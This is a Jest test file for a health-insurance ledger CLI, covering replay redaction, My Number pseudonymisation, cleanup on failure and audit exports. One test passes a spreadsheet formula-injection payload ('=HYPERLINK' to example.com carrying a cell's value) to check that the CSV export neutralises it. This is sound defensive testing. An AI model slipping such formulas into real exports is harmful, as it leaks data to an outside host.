import Database from 'better-sqlite3';
import {
  calendarDate,
  type DocumentId,
  instantFromEpochMillis,
  myNumberCheckDigit,
  parseMyNumber,
} from '@ledger/domain';
import { SqliteEventStore } from '@ledger/event-store';
import { decodePersonState, personStateAsKnownAt, qualificationOn, readModelsVersion } from '@ledger/projections';
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { cpSync, readdirSync, readFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import {
  firstRecordedAt,
  fixtureLedger,
  hour,
  ledger,
  openAddress,
  openPerson,
  restrictedAddress,
  restrictedPerson,
  tamper,
} from './support/cli-fixtures';
import { cliEntry, eventually, temporaryDirectory } from './support/ledger-processes';
import { myNumber } from './support/read-side-population';

interface Row {
  stream: string;
  personId: string | null;
  type: string;
  restricted: boolean;
  data: Record<string, unknown>;
  hash: string;
}
/** The types of a stream's rows in a replay file's audit trail, in log order. */
const auditTypesOf = (db: Database.Database, stream: string): string[] =>
  db.prepare<[string], string>('SELECT type FROM audit_trail WHERE stream = ? ORDER BY position').pluck().all(stream);

const rowsOf = (stdout: string): Row[] =>
  stdout
    .trim()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Row);

/** The CLI's arguments for a replay of everything the ledger at `dataDirectory` holds into `out`. */
const replayOfAll = (dataDirectory: string, out: string): string[] => [
  cliEntry,
  ...['replay', '--data-dir', dataDirectory, '--as-known-at', '2100-01-01T00:00:00Z', '--out', out],
];

/** How a child process ended: its exit code, or the signal that ended it. */
const endOf = (child: ChildProcess) =>
  new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((done) =>
    child.once('exit', (code, endedBy) => done({ code, signal: endedBy })),
  );

describe('R42: ledger replay --as-known-at as a process', () => {
  let dataDirectory: string;

  beforeAll(async () => {
    dataDirectory = await fixtureLedger(12);
  });

  it('builds the read models as known at the instant; sampled persons match personStateAsKnownAt', async () => {
    const knownAt = instantFromEpochMillis(firstRecordedAt + 9.5 * hour);
    const out = join(temporaryDirectory(), 'known.db');
    const run = ledger(['replay', '--data-dir', dataDirectory, '--as-known-at', knownAt, '--out', out]);
    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ out, knownAt, eventsApplied: expect.any(Number) as number });

    const replayed = new Database(out, { readonly: true });
    const store = new SqliteEventStore({ path: join(dataDirectory, 'events.db') });
    try {
      const streams = new Database(join(dataDirectory, 'events.db'), { readonly: true })
        .prepare<[], { stream: string }>('SELECT DISTINCT stream FROM events ORDER BY stream')
        .all()
        .map(({ stream }) => stream);
      let known = 0;
      for (const stream of streams) {
        const expected = await personStateAsKnownAt(store, stream, knownAt);
        const row = replayed
          .prepare<[string], { state: string }>('SELECT state FROM person_states WHERE stream = ?')
          .get(stream);
        expect(row === undefined).toBe(expected === undefined);
        if (!expected || !row) continue;
        known += 1;
        for (const on of ['2024-12-01', '2025-06-30', '2026-04-01'].map(calendarDate)) {
          expect(qualificationOn(decodePersonState(row.state), on)).toEqual(qualificationOn(expected, on));
        }
      }
      expect(known).toBeGreaterThan(1);
      expect(known).toBeLessThan(streams.length);
      const [{ recorded }] = replayed.prepare('SELECT max(recorded_at) AS recorded FROM audit_trail').all() as [
        { recorded: string },
      ];
      expect(Date.parse(recorded)).toBeLessThanOrEqual(Date.parse(knownAt));
      expect(replayed.prepare('SELECT known_at AS knownAt FROM replay').get()).toEqual({ knownAt });
      // The help names every table the file holds, beside the replay table.
      const tables = replayed
        .prepare<[], string>("SELECT name FROM sqlite_master WHERE type = 'table' AND name != 'replay'")
        .pluck()
        .all();
      const help = ledger(['replay', '--help']).stdout.replace(/\s+/g, ' ');
      expect(tables.length).toBeGreaterThan(3);
      for (const table of tables) expect({ table, named: help.includes(table) }).toEqual({ table, named: true });
    } finally {
      replayed.close();
      await store.close();
    }
  });

  it('R31: keeps no address or access history of a person ever restricted, even as known before the filing; others are whole', () => {
    const replayed = (knownAt: string) => {
      const out = join(temporaryDirectory(), 'known.db');
      const run = ledger(['replay', '--data-dir', dataDirectory, '--as-known-at', knownAt, '--out', out]);
      expect(run.status).toBe(0);
      // Whatever the replay wrote beside the file it hands out, before a reader opens it.
      const leftovers = readdirSync(dirname(out)).filter((name) => name !== basename(out));
      const db = new Database(out, { readonly: true });
      try {
        const stateOf = (stream: string) =>
          db.prepare<[string], string>('SELECT state FROM person_states WHERE stream = ?').pluck().get(stream);
        const typesOf = (stream: string) => auditTypesOf(db, stream);
        return {
          // The file as anyone holding it can read it, free pages and all.
          bytes: readFileSync(out),
          leftovers,
          stdout: JSON.parse(run.stdout) as { withheld: unknown },
          restricted: { state: stateOf(restrictedPerson), types: typesOf(restrictedPerson) },
          open: { state: stateOf(openPerson), types: typesOf(openPerson) },
          file: db
            .prepare('SELECT restricted_persons_withheld AS persons, access_rows_withheld AS accessRows FROM replay')
            .get(),
        };
      } finally {
        db.close();
      }
    };
    // The restricted person was enrolled at the first hour, restricted at the second, checked at the third.
    const beforeFiling = replayed(instantFromEpochMillis(firstRecordedAt + 0.5 * hour));
    expect(beforeFiling.restricted.state).toContain('山田 花子');
    expect(beforeFiling.restricted.state).not.toContain(restrictedAddress);
    expect(beforeFiling.restricted.types).toEqual(['QualificationAcquired']);

    const everything = replayed('2100-01-01T00:00:00Z');
    expect(everything.restricted.state).not.toContain(restrictedAddress);
    // Not left behind in the file's free space either, where a replaced state or a deleted row was.
    const events = new Database(join(dataDirectory, 'events.db'), { readonly: true });
    const accessHash = events
      .prepare<[string], string>(
        `SELECT metadata ->> '$."$hash"' FROM events WHERE stream = ? AND type = 'EligibilityChecked'`,
      )
      .pluck()
      .get(restrictedPerson)!;
    events.close();
    for (const replay of [beforeFiling, everything]) {
      expect(replay.bytes.includes(Buffer.from(restrictedAddress))).toBe(false);
      // Nor in a file it was built in.
      expect(replay.leftovers).toEqual([]);
    }
    expect(everything.bytes.includes(Buffer.from(accessHash))).toBe(false);
    expect(everything.bytes.includes(Buffer.from(openAddress))).toBe(true);
    expect(everything.restricted.types).toEqual(['QualificationAcquired', 'ViewingRestrictionFiled']);
    expect(everything.open.state).toContain(openAddress);
    expect(everything.open.types).toEqual(['QualificationAcquired', 'EligibilityChecked']);
    // The synthetic histories have restricted persons of their own.
    expect(everything.file).toEqual({ persons: expect.any(Number) as number, accessRows: 1 });
    expect(everything.stdout.withheld).toEqual(everything.file);
  });

  it('shows ids that are a My Number in the log by pseudonyms, one per id and new in each replay; R31 holds for them', async () => {
    const data = await fixtureLedger(3);
    const documentNumber = `98765432101${myNumberCheckDigit('98765432101')}`;
    expect(parseMyNumber(documentNumber).ok).toBe(true);
    const stream = `insured-123455-${myNumber}`;
    const acquiredData = {
      insurerNumber: '123455',
      relationship: 'insured',
      acquiredOn: '2025-01-06',
      birthDate: '1980-05-05',
      number: '1001',
      name: '山田 花子',
      burdenRatio: 30,
    };
    const issuedData = {
      documentType: 'limit-certificate',
      issuedOn: '2025-02-01',
      validFrom: '2025-02-01',
      delivery: 'counter',
      occasion: 'application',
    };
    // One append a day from 2025-02-02 on: the instant replayed falls between the second and the filing.
    let tick = Date.parse('2025-02-01T00:00:00Z');
    const store = new SqliteEventStore({ path: join(data, 'events.db'), clock: () => new Date((tick += 24 * hour)) });
    const { events: enrolment } = await store.append(
      stream,
      [
        { type: 'QualificationAcquired', data: { ...acquiredData, address: restrictedAddress } },
        { type: 'DocumentIssued', data: { ...issuedData, documentId: documentNumber } },
      ],
      'no_stream',
    );
    await store.append(
      stream,
      [{ type: 'DocumentDelivered', data: { documentId: documentNumber, deliveredOn: '2025-02-05' } }],
      1,
    );
    // Filed after the instant replayed: the address known before it is withheld all the same.
    await store.append(
      stream,
      [{ type: 'ViewingRestrictionFiled', data: { filedOn: '2025-03-01', scope: 'non-disclosure' } }],
      2,
    );
    await store.close();

    const replay = () => {
      const out = join(temporaryDirectory(), 'known.db');
      const run = ledger(['replay', '--data-dir', data, '--as-known-at', '2025-02-03T12:00:00Z', '--out', out]);
      expect(run.status).toBe(0);
      expect(run.stdout + run.stderr).not.toContain(myNumber);
      const db = new Database(out, { readonly: true });
      try {
        const person = db
          .prepare<[], { stream: string; personId: string; state: string }>(
            "SELECT stream, person_id AS personId, state FROM person_states WHERE person_id LIKE 'redacted-%'",
          )
          .all();
        expect(person).toHaveLength(1);
        const { stream: renamed, personId, state } = person[0]!;
        expect(renamed).toBe(`insured-123455-${personId}`);
        const documents = db
          .prepare<[string], string>('SELECT document_id FROM document_streams WHERE stream = ?')
          .pluck()
          .all(renamed);
        expect(documents).toHaveLength(1);
        const types = auditTypesOf(db, renamed);
        const eventIds = db
          .prepare<[string], string>('SELECT event_id FROM audit_trail WHERE stream = ? ORDER BY position')
          .pluck()
          .all(renamed);
        return {
          eventIds,
          bytes: readFileSync(out),
          personId,
          documentId: documents[0]!,
          state: decodePersonState(state),
          types,
          stdout: JSON.parse(run.stdout) as { pseudonymised: unknown },
          file: db
            .prepare('SELECT persons_pseudonymised AS persons, documents_pseudonymised AS documents FROM replay')
            .get(),
        };
      } finally {
        db.close();
      }
    };
    const first = replay();
    for (const id of [first.personId, first.documentId]) expect(id).toMatch(/^redacted-[0-9a-f-]{36}$/);
    expect(first.documentId).not.toBe(first.personId);
    expect(first.bytes.includes(Buffer.from(myNumber))).toBe(false);
    expect(first.bytes.includes(Buffer.from(documentNumber))).toBe(false);
    expect(first.bytes.includes(Buffer.from(restrictedAddress))).toBe(false);
    // The person's rows still belong together: the document, delivered, under its pseudonym.
    expect(first.state.documents.get(first.documentId as DocumentId)?.deliveredOn).toBe('2025-02-05');
    expect(first.types).toEqual(['QualificationAcquired', 'DocumentIssued', 'DocumentDelivered']);
    expect(first.file).toEqual({ persons: 1, documents: 1 });
    expect(first.stdout.pseudonymised).toEqual(first.file);
    // The ledger derives event ids from the stream name: such a person's are renamed too, consistently.
    for (const { id } of enrolment) expect(first.bytes.includes(Buffer.from(id))).toBe(false);
    expect(first.state.periods[0]!.enrolmentEventId).toBe(first.eventIds[0]);

    const second = replay();
    expect(second.personId).not.toBe(first.personId);
    expect(second.documentId).not.toBe(first.documentId);
    expect(second.eventIds[0]).not.toBe(first.eventIds[0]);
  });

  it('R31: a replay that fails leaves no file behind, not even the one it was building', () => {
    const damaged = join(temporaryDirectory(), 'data');
    cpSync(dataDirectory, damaged, { recursive: true });
    // The last event no longer decodes: every restricted person's data is in the file by then.
    tamper(damaged, (db) =>
      db.prepare('UPDATE events SET data = ? WHERE position = (SELECT max(position) FROM events)').run('{'),
    );
    const out = join(temporaryDirectory(), 'known.db');
    const run = ledger(['replay', '--data-dir', damaged, '--as-known-at', '2100-01-01T00:00:00Z', '--out', out]);
    // Stopped by the damaged event while building, not refused before it began (a usage error is 2).
    expect({ status: run.status, stderr: run.stderr }).toEqual({
      status: 1,
      stderr: expect.stringMatching(/cannot be read: its stored data is not JSON/) as unknown,
    });
    expect(readdirSync(dirname(out))).toEqual([]);
  });

  it('refuses to overwrite a file, a file in a missing directory, and an instant without an offset: exit 2', () => {
    const replay = (out: string, knownAt = '2025-01-06T09:00:00Z') =>
      ledger(['replay', '--data-dir', dataDirectory, '--as-known-at', knownAt, '--out', out]);
    const overwrite = replay(join(dataDirectory, 'events.db'));
    expect(overwrite.status).toBe(2);
    expect(overwrite.stderr).toContain('never overwrites');
    const nowhere = replay(join(dataDirectory, 'no-such-directory', 'known.db'));
    expect(nowhere.status).toBe(2);
    expect(nowhere.stderr).toContain(`there is no directory ${join(dataDirectory, 'no-such-directory')}`);
    const local = replay('x.db', '2025-01-06T09:00');
    expect(local.status).toBe(2);
    expect(local.stderr).toContain("option '--as-known-at <instant>' argument '2025-01-06T09:00' is invalid");
  });
});

describe('R31: ledger replay interrupted', () => {
  let dataDirectory: string;

  beforeAll(async () => {
    // Large enough that the replay is still running when the signal comes.
    dataDirectory = await fixtureLedger(3000);
  }, 120_000);

  it.each(['SIGINT', 'SIGTERM'] as const)(
    'R31: a replay interrupted by %s removes what it was building before it ends, and hands out no file',
    async (signal) => {
      const directory = temporaryDirectory();
      const out = join(directory, 'known.db');
      const child = spawn(process.execPath, replayOfAll(dataDirectory, out));
      const ended = endOf(child);
      try {
        await eventually('the replay has begun', () =>
          readdirSync(directory).some((name) => name.startsWith('.replay-')),
        );
      } catch (error) {
        child.kill('SIGKILL');
        throw error;
      }
      child.kill(signal);
      expect(await ended).toEqual({ code: null, signal });
      expect(readdirSync(directory)).toEqual([]);
    },
  );

  it.each(['SIGINT', 'SIGTERM'] as const)(
    'R31: a replay interrupted by %s the instant its directory aside is made removes it too',
    async (signal) => {
      const directory = temporaryDirectory();
      const child = spawn(
        process.execPath,
        [
          '--require',
          join(__dirname, 'support/signal-on-replay-directory.js'),
          ...replayOfAll(dataDirectory, join(directory, 'known.db')),
        ],
        { env: { ...process.env, SIGNAL_ON_REPLAY_DIRECTORY: signal } },
      );
      expect(await endOf(child)).toEqual({ code: null, signal });
      expect(readdirSync(directory)).toEqual([]);
    },
  );
});

describe('ledger replay that fails writing --out', () => {
  it('removes the file it began, so that the next replay to it is not refused: exit 1, one line', async () => {
    const dataDirectory = await fixtureLedger(3);
    const directory = temporaryDirectory();
    const out = join(directory, 'known.db');
    const replay = (...preload: string[]) =>
      spawnSync(process.execPath, [...preload, ...replayOfAll(dataDirectory, out)], { encoding: 'utf8' });
    const failed = replay('--require', join(__dirname, 'support/replay-out-fails.js'));
    expect(failed.status).toBe(1);
    expect(failed.stderr).toContain('ledger: database or disk is full');
    expect(readdirSync(directory)).toEqual([]);
    expect(replay().status).toBe(0);
    expect(readdirSync(directory)).toEqual(['known.db']);
  });
});

describe('R40: ledger audit export as a process', () => {
  let dataDirectory: string;
  const period = ['--insurer', '123455', '--from', '2025-01-01', '--to', '2025-12-31'];
  const exportOf = (insurer: string, from: string, to: string, ...options: string[]) =>
    ledger([
      'audit',
      'export',
      '--data-dir',
      dataDirectory,
      '--insurer',
      insurer,
      '--from',
      from,
      '--to',
      to,
      ...options,
    ]);

  beforeAll(async () => {
    dataDirectory = await fixtureLedger(6);
    // Two checks that matched nobody, kept in the clinic's stream: one asked about 123455, one about another insurer.
    const store = new SqliteEventStore({
      path: join(dataDirectory, 'events.db'),
      clock: () => new Date('2025-03-01T00:00:00Z'),
    });
    const unmatched = { medicalInstitutionCode: '0110113719', confirmationDate: '2025-03-01', method: 'numbers' };
    await store.append(
      'eligibility-checks-0110113719',
      [
        { type: 'EligibilityChecked', data: { ...unmatched, validity: 4, insurerNumber: '123455' } },
        { type: 'EligibilityChecked', data: { ...unmatched, validity: 4, insurerNumber: '33120015' } },
      ],
      'any',
    );
    await store.close();
  });

  it("R40: the insurer's checks that matched nobody are in its export, with no person; another insurer's are not", () => {
    const rows = rowsOf(ledger(['audit', 'export', '--data-dir', dataDirectory, ...period]).stdout);
    const unmatched = rows.filter((row) => row.stream === 'eligibility-checks-0110113719');
    expect(unmatched).toEqual([
      expect.objectContaining({ type: 'EligibilityChecked', personId: null, restricted: false }),
    ]);
    expect(unmatched[0]!.data).toMatchObject({ validity: 4, insurerNumber: '123455' });
    const other = rowsOf(exportOf('33120015', '2025-01-01', '2025-12-31').stdout);
    expect(other.filter((row) => row.stream === 'eligibility-checks-0110113719')).toHaveLength(1);
  });

  it("R31: redacts a restricted person's address and withholds their access history; others are whole", () => {
    const run = ledger(['audit', 'export', '--data-dir', dataDirectory, ...period]);
    expect(run.status).toBe(0);
    const rows = rowsOf(run.stdout);
    const restricted = rows.filter((row) => row.stream === restrictedPerson);
    expect(restricted.map((row) => row.type)).toEqual(['QualificationAcquired', 'ViewingRestrictionFiled']);
    expect(restricted.every((row) => row.restricted)).toBe(true);
    expect(restricted[0]!.data.address).toBe('[redacted]');
    const open = rows.filter((row) => row.stream === openPerson);
    expect(open.map((row) => row.type)).toEqual(['QualificationAcquired', 'EligibilityChecked']);
    expect(open[0]!.data.address).toBe(openAddress);
    expect(run.stdout).not.toContain(restrictedAddress);
    expect(run.stderr).toMatch(/[1-9]\d* access rows withheld, [1-9]\d* addresses redacted/);
    const redactedRows = rows.filter((row) => row.restricted && 'address' in row.data);
    expect(redactedRows.every((row) => row.data.address === '[redacted]')).toBe(true);
    expect(
      rows.every((row) => row.stream.startsWith('insured-123455-') || row.stream === 'eligibility-checks-0110113719'),
    ).toBe(true);
  });

  it('includes them only with a reason, which is recorded in the ledger first', () => {
    const refused = ledger(['audit', 'export', '--data-dir', dataDirectory, ...period, '--include-restricted']);
    expect(refused.status).toBe(2);
    expect(refused.stderr).toContain('--include-restricted needs --reason');
    // A word is no reason an auditor can follow up.
    const curt = ledger([
      ...['audit', 'export', '--data-dir', dataDirectory, ...period],
      ...['--include-restricted', '--reason', 'subpoena'],
    ]);
    expect(curt.status).toBe(2);
    expect(curt.stderr).toContain('(at least 10 characters)');
    const reason = 'Court order 2025-(ワ)-123, judge 佐藤';
    const nobody = ledger([
      ...['audit', 'export', '--data-dir', dataDirectory, ...period],
      ...['--include-restricted', '--reason', reason, '--actor', ' '],
    ]);
    expect(nobody.status).toBe(2);
    expect(nobody.stderr).toMatch(/--actor.*must name who acts/);
    const run = ledger([
      'audit',
      'export',
      '--data-dir',
      dataDirectory,
      ...period,
      '--include-restricted',
      '--reason',
      reason,
      '--actor',
      'auditor-3',
    ]);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain(restrictedAddress);
    expect(rowsOf(run.stdout).filter((row) => row.stream === restrictedPerson)).toHaveLength(3);
    const db = new Database(join(dataDirectory, 'events.db'), { readonly: true });
    const recorded = db
      .prepare("SELECT stream, data, metadata FROM events WHERE type = 'RestrictedDataExported'")
      .all() as {
      stream: string;
      data: string;
      metadata: string;
    }[];
    db.close();
    expect(recorded).toHaveLength(1);
    expect(JSON.parse(recorded[0]!.data)).toEqual({
      insurerNumber: '123455',
      from: '2025-01-01',
      to: '2025-12-31',
      format: 'ndjson',
      actor: 'auditor-3',
      reason,
    });
    expect(ledger(['verify', '--data-dir', dataDirectory]).status).toBe(0);
  });

  it("R40: the recorded export is in the insurer's audit trail; its reason only with --include-restricted (R31)", () => {
    const today = new Date(Date.now() + 9 * hour).toISOString().slice(0, 10);
    const exportOfToday = (...options: string[]) => exportOf('123455', today, today, ...options);
    const run = exportOfToday();
    expect(run.status).toBe(0);
    expect(rowsOf(run.stdout)).toEqual([
      expect.objectContaining({
        type: 'RestrictedDataExported',
        stream: 'restricted-exports-123455',
        personId: null,
        actor: 'auditor-3',
        data: expect.objectContaining({ reason: '[redacted]' }) as unknown,
      }),
    ]);
    expect(run.stdout).not.toContain('Court order');
    const included = exportOfToday(
      '--include-restricted',
      '--reason',
      'Audit of the exports, ticket 77',
      '--actor',
      'a-4',
    );
    expect(included.status).toBe(0);
    expect(rowsOf(included.stdout).map((row) => row.data.reason)).toEqual([
      'Court order 2025-(ワ)-123, judge 佐藤',
      'Audit of the exports, ticket 77',
    ]);
  });

  it('refuses --reason or --actor without --include-restricted (exit 2): only that export is recorded', () => {
    for (const option of ['--reason', '--actor']) {
      const run = ledger(['audit', 'export', '--data-dir', dataDirectory, ...period, option, 'court order 2026-114']);
      expect(run.status).toBe(2);
      expect(run.stderr).toContain(`${option} is recorded only with --include-restricted`);
      expect(run.stdout).toBe('');
    }
  });

  it('refuses a --reason holding a My Number (exit 2), without repeating it: the reason is recorded and exported', () => {
    const run = ledger([
      ...['audit', 'export', '--data-dir', dataDirectory, ...period],
      ...['--include-restricted', '--reason', 'court order for 123456789018', '--actor', 'auditor-3'],
    ]);
    expect(run.status).toBe(2);
    expect(run.stderr).toContain('--reason');
    expect(run.stderr + run.stdout).not.toContain('123456789018');
  });

  it('the recorded export does not stop the read models: rebuild tolerates it', () => {
    const run = ledger(['rebuild', '--data-dir', dataDirectory]);
    expect(run.status).toBe(0);
    expect(run.stderr).toMatch(/rebuild: \d+\/\d+ events, \d+ events\/s/);
    const { checkpoint } = JSON.parse(run.stdout) as { checkpoint: number };
    const stats = JSON.parse(ledger(['stats', '--data-dir', dataDirectory]).stdout) as {
      headPosition: number;
      eventsByType: Record<string, number>;
      projectors: { projector: string; checkpoint: number; lagPositions: number }[];
    };
    expect(checkpoint).toBe(stats.headPosition);
    expect(stats.eventsByType.RestrictedDataExported).toBeGreaterThanOrEqual(1);
    expect(stats.projectors).toEqual([{ projector: 'read-models', checkpoint, lagPositions: 0 }]);
  });

  it('writes a cell that a spreadsheet would take for a formula (an --actor beginning with =) as text', () => {
    const formula = '=HYPERLINK("http://example.com/?"&B2,"open")';
    const recorded = ledger([
      'audit',
      'export',
      '--data-dir',
      dataDirectory,
      ...period,
      ...['--include-restricted', '--reason', 'court order 2026-7 for the formula test', '--actor', formula],
    ]);
    expect(recorded.status).toBe(0);
    // The export is recorded today: today's rows hold its actor.
    const today = new Date(Date.now() + 9 * hour).toISOString().slice(0, 10);
    const run = exportOf('123455', today, today, '--format', 'csv');
    expect(run.status).toBe(0);
    const formulaRows = run.stdout.split('\n').filter((line) => line.includes('HYPERLINK'));
    expect(formulaRows.length).toBeGreaterThan(0);
    for (const row of formulaRows) {
      expect(row).toContain(`"'=HYPERLINK(`);
      expect(row).not.toMatch(/(^|,)"?=HYPERLINK/);
    }
  });

  it('writes CSV with a header, one line per row', () => {
    const run = ledger(['audit', 'export', '--data-dir', dataDirectory, ...period, '--format', 'csv']);
    expect(run.status).toBe(0);
    const lines = run.stdout.trim().split('\n');
    expect(lines[0]).toBe(
      'position,eventId,recordedAt,stream,personId,revision,type,actor,channel,onBehalfOf,restricted,data,hash',
    );
    expect(lines.length).toBe(
      rowsOf(ledger(['audit', 'export', '--data-dir', dataDirectory, ...period]).stdout).length + 1,
    );
    expect(run.stdout).not.toContain(restrictedAddress);
  });

  it.each([
    [['--insurer', '123456', '--from', '2025-01-01', '--to', '2025-12-31'], '--insurer'],
    [['--insurer', '123455', '--from', '2025-13-01', '--to', '2025-12-31'], '--from'],
    [['--insurer', '123455', '--from', '2025-02-01', '--to', '2025-01-31'], 'is after --to'],
    [['--insurer', '123455', '--from', '2025-01-01', '--to', '2025-12-31', '--format', 'xml'], '--format'],
    [['--from', '2025-01-01', '--to', '2025-12-31'], "required option '--insurer <number>' not specified"],
  ])('a bad option (%s) exits 2 naming it, writing nothing', (args, named) => {
    const run = ledger(['audit', 'export', '--data-dir', dataDirectory, ...args]);
    expect(run.status).toBe(2);
    expect(run.stderr).toContain(named);
    expect(run.stdout).toBe('');
  });
});

describe('ledger stats', () => {
  it('counts events by type and streams; without read models there is no projector', async () => {
    const dataDirectory = await fixtureLedger(3);
    const run = ledger(['stats', '--data-dir', dataDirectory]);
    expect(run.status).toBe(0);
    const stats = JSON.parse(run.stdout) as {
      events: number;
      streams: number;
      headPosition: number;
      eventsByType: Record<string, number>;
      projectors: unknown[];
      personsWithMyNumberIds: number;
    };
    expect(stats.eventsByType).toMatchObject({
      QualificationAcquired: expect.any(Number) as number,
      EligibilityChecked: 2,
      ViewingRestrictionFiled: expect.any(Number) as number,
    });
    expect(Object.values(stats.eventsByType).reduce((sum, count) => sum + count, 0)).toBe(stats.events);
    expect(stats.headPosition).toBe(stats.events);
    expect(stats.streams).toBeGreaterThanOrEqual(5);
    expect(stats.projectors).toEqual([]);
    expect(stats.personsWithMyNumberIds).toBe(0);
    expect(run.stderr).not.toContain('My Number');
  });

  it('counts persons whose id is a My Number, written before ids were checked, without naming them', async () => {
    const dataDirectory = await fixtureLedger(3);
    const store = new SqliteEventStore({ path: join(dataDirectory, 'events.db') });
    for (const stream of [`insured-123455-${myNumber}`, `insured-06050116-${myNumber}`, 'insured-123455-123456789012'])
      await store.append(stream, [{ type: 'QualificationAcquired', data: { name: '山田' } }], 'no_stream');
    await store.close();
    const run = ledger(['stats', '--data-dir', dataDirectory]);
    expect(run.status).toBe(0);
    expect((JSON.parse(run.stdout) as { personsWithMyNumberIds: number }).personsWithMyNumberIds).toBe(2);
    expect(run.stderr).toContain('2 persons have a My Number as their id');
    expect(run.stdout + run.stderr).not.toContain(myNumber);
  });

  it('leaves read models of another version as they are, and says why it shows no checkpoint', async () => {
    const dataDirectory = await fixtureLedger(3);
    expect(ledger(['rebuild', '--data-dir', dataDirectory]).status).toBe(0);
    const readModelsPath = join(dataDirectory, 'read-models.db');
    const older = new Database(readModelsPath);
    older.pragma('user_version = 0');
    const rowsBefore = older.prepare('SELECT count(*) AS rows FROM audit_trail').get();
    older.close();

    const run = ledger(['stats', '--data-dir', dataDirectory]);

    expect(run.status).toBe(0);
    expect((JSON.parse(run.stdout) as { projectors: unknown[] }).projectors).toEqual([]);
    expect(run.stderr).toContain(`${readModelsPath} is of version 0, this ledger reads version ${readModelsVersion}`);
    const after = new Database(readModelsPath, { readonly: true });
    expect(after.pragma('user_version', { simple: true })).toBe(0);
    expect(after.prepare('SELECT count(*) AS rows FROM audit_trail').get()).toEqual(rowsBefore);
    after.close();
  });
});
